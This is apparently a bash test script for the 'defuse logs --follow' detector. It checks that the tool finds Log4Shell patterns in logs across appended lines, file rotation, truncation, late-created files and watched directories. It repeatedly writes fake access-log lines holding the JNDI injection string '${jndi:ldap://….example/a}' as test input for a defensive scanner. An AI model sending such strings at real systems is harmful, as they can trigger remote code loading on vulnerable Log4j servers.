#!/usr/bin/env bash
# logs_follow.sh -- `defuse logs --follow`: lines appended later are found
# (and flushed at once), the file is followed across rotation (rename +
# new file) and truncation, a missing file is waited for, and SIGTERM ends
# it cleanly with the grep exit status.  Bounded by timeouts throughout.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
pl() { printf '192.0.2.1 - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://%s.example/a} HTTP/1.1" 404 0\n' "$1"; }

# wait_for PATTERN: until out.txt holds it (5 s at most)
wait_for() {
    local i
    for i in $(seq 1 100); do grep -qF -- "$1" out.txt && return 0; sleep 0.05; done
    return 1
}
printf 'old line\n' > app.log
pl before >> app.log               # existing content: skipped (starts at end)
timeout 30 "$DEFUSE" logs --follow app.log later.log > out.txt 2> err.txt &
PID=$!; PIDS+=("$PID")
sleep 0.5
pl append1 >> app.log
wait_for "append1" && ok "appended line found" || fail "appended line not found"
expect_grep "app.log:3: jndi ldap[:]//append1" out.txt "line number counts the existing lines"
# rotation: rename away, new file at the same path
mv app.log app.log.1
pl rotated-old >> app.log.1        # late write to the old file is still read
printf 'fresh\n' > app.log
pl rotated-new >> app.log
wait_for "rotated-new" && ok "new file after rotation followed" || fail "rotation not followed"
expect_grep "app.log:2: jndi ldap[:]//rotated-new" out.txt "new file numbered from 1"
grep -qF "rotated-old" out.txt && ok "last write to the rotated file read" || fail "write to rotated file lost"
# truncation
: > app.log
sleep 0.3
pl truncated >> app.log
wait_for "truncated" && ok "found after truncation" || fail "truncation not handled"
expect_grep "app.log:1: jndi ldap[:]//truncated" out.txt "truncated file numbered from 1"
expect_grep "file truncated" err.txt "truncation noted on stderr"
# a file that did not exist at start
pl appeared > later.log
wait_for "appeared" && ok "file created later is picked up" || fail "missing file not waited for"
# a partial line is completed later
printf '${jndi:ldap://part' >> app.log
sleep 0.3
printf 'ial.example/a}\n' >> app.log
wait_for "partial" && ok "partial line joined" || fail "partial line"
stop_follow TERM "$PID"; rc=$?
expect_rc 1 "$rc" "SIGTERM ends --follow with exit 1 (findings)"
grep -q "before" out.txt && fail "content present before start was reported" || ok "starts at the end"

# --from-start reads existing content first
pl existing > b.log
timeout 30 "$DEFUSE" logs -F --from-start --summary b.log > out.txt 2>/dev/null &
PID=$!; PIDS+=("$PID")
wait_for "existing" && ok "--from-start" || fail "--from-start"
pl more >> b.log
wait_for "more" || fail "append after --from-start"
stop_follow INT "$PID"; expect_rc 1 $? "SIGINT ends --follow"
expect_grep "scanned 1 files, 2 lines" out.txt "--summary at the signal counts what was followed"
expect_grep "jndi               2" out.txt "--summary totals"

# A directory: every file in it (and its subdirectories) is followed, files
# created later too (from their start); rotated and compressed copies
# (name.1, name.gz, name-20211210) are not read again.
mkdir -p d/sub
pl d-old > d/a.log
: > d/sub/b.log
timeout 30 "$DEFUSE" logs --follow d > out.txt 2> err.txt &
PID=$!; PIDS+=("$PID")
sleep 0.5
pl d-append >> d/a.log
wait_for "d-append" && ok "--follow DIR: append to a file in it found" || fail "--follow DIR: append not found"
pl d-sub >> d/sub/b.log
wait_for "d-sub" && ok "--follow DIR: subdirectory file followed" || fail "--follow DIR: subdirectory"
pl d-new > d/new.log
wait_for "d-new" && ok "--follow DIR: file created later read from its start" || fail "--follow DIR: new file"
expect_grep "d/new.log:1: jndi" out.txt "--follow DIR: new file numbered from 1"
mv d/a.log d/a.log.1; pl d-rot > d/a.log
wait_for "d-rot" && ok "--follow DIR: rotation inside the directory followed" || fail "--follow DIR: rotation"
cp d/a.log.1 d/a.log-20211210; gzip -c d/a.log.1 > d/a.log.1.gz
sleep 1.5
stop_follow TERM "$PID"
grep -q "d-old" out.txt && fail "--follow DIR: existing content reported" || ok "--follow DIR: starts at the end"
[ "$(grep -c 'd-append' out.txt)" = 1 ] && ok "--follow DIR: rotated copies not read again" \
  || fail "--follow DIR: rotated copies read again ($(grep -c d-append out.txt))"
finish
